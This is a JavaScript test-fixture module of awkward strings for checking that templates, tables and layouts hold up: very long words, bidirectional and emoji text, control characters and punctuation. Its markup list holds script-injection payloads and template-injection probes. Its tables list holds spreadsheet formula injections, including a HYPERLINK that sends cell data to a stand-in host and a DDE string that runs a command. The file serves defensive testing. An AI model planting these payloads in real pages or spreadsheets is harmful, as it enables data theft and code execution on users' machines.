// Short texts that break careless templates, feeds, tables and layouts; handed out in turn, always in the same order.
const words = (word, length) => word.repeat(Math.ceil(length / word.length)).slice(0, length).trim();

export const longWord = words('Donaudampfschifffahrtselektrizitätenhauptbetriebswerkbauunterbeamtengesellschaft', 1000);
export const longTitle = words('A title of three hundred letters that the school board could not make any shorter and ', 300);

// Each ends an element, a comment, a section or a quotation, or stands for something in a language of others.
export const markup = [
  '<script>alert("HOSTILE")</script> & <b>bold</b>',
  '</script><script>HOSTILE()//',
  '</title></style></textarea><img src=x onerror=HOSTILE()>',
  '"><svg onload=HOSTILE()> \' onmouseover="HOSTILE()"',
  ']]> <![CDATA[ <!-- --> &amp; &lt; &#x3c;script&#x3e;',
  'a -- b --> c --!> <!--> <?php echo 1 ?> <%= 1 %>',
  '&amp;amp; &nbsp; &copy &notit; &#0; &#xd800; &bogus;',
  '{{{body_html}}} {{> head}} {page} {site} {n} %1 %n \\u003c',
  '{{stat:unknown}} {{schools:all}} [link](javascript:HOSTILE()) **bold** `code` ![x](y)',
  '$1 $& $` ${7*7} {{7*7}} %00 %zz \\ \\" \\u2028 \\x00',
];
export const letters = [
  'مدرسة الحي تفتح أبوابها \u202e reversed',
  'בית ספר \u2067isolated \u202bembedded and never closed (123) abc',
  'abc \u2066\u202d\u2069\u2069\u200f\u200e\u061c mixed العربية 42% of עברית!',
  '👩🏽‍🎓🎉 Día de graduación 🇲🇽 ﷽ Z̸̢̛̟a̶͔͐l̴̺̈g̷͉̈ǒ̶',
  '👨‍👩‍👧‍👦🏴\u{e0067}\u{e0062}\u{e0065}\u{e006e}\u{e0067}\u{e007f}1️⃣🇺🇸🇨🇺🏳️‍🌈☎︎ 👍🏿',
  '学校のお知らせ'.repeat(30),
  'ñ'.repeat(300),
  'a\u0301e\u0301 ﬁﬂ ǅ İı ß ẞ Ⅷ ½ ㎏ \u{1d4d0}\u{10ffff}',
];
export const lengths = [
  longWord.slice(0, 160),
  longWord,
  longTitle,
  'Antidisestablishmentarianism and other very long words of the school board '.repeat(4).trim(),
  'https://www.example.org/' + 'a-very-long-address-without-any-place-to-break-'.repeat(6),
];
export const spaces = [
  '   lots   of\u00a0\u00a0space\u200b and\ttabs\u2028lines   ',
  'first line\nsecond line\r\nthird\u2029fourth\u0085fifth\u000bsixth',
  'control \u0001\u0002\u0003\u0008\u000c\u001b[31m\u007f\u0080\u009f\ufffe\uffff\ufeff characters',
];
export const punctuation = ['!!!', '—', '¿?', '…', '#', '*', '1.', '- -', '\u00ad', '\u200b', '"', "'", '<', '&', '.', '..', '/'];
// Spreadsheets would reckon with them, readers of tables would lose the column.
export const tables = [
  '=HYPERLINK("https://evil.example/?a="&A1,"Click")',
  '+1+cmd|\' /C calc\'!A0',
  '-2+3', '@SUM(1+1)', '\t=1+1', '\r=1+1',
  'a, b; c\t"d"\n"e",,\'f\'',
  "O’Neill & “Sons” 'n' «¡Hola!» — 100 % of 1 < 2 > 0",
];

const nasty = [markup, letters, lengths, spaces, punctuation.slice(0, 4), tables].flat();
let turn = 0;
export const next = () => nasty[turn++ % nasty.length];
export const count = nasty.length;
// For what a file or a table is named by: nothing of a whole screen's length.
const short = nasty.filter(text => text.length < 100);
let shortTurn = 0;
export const nextShort = () => short[shortTurn++ % short.length];
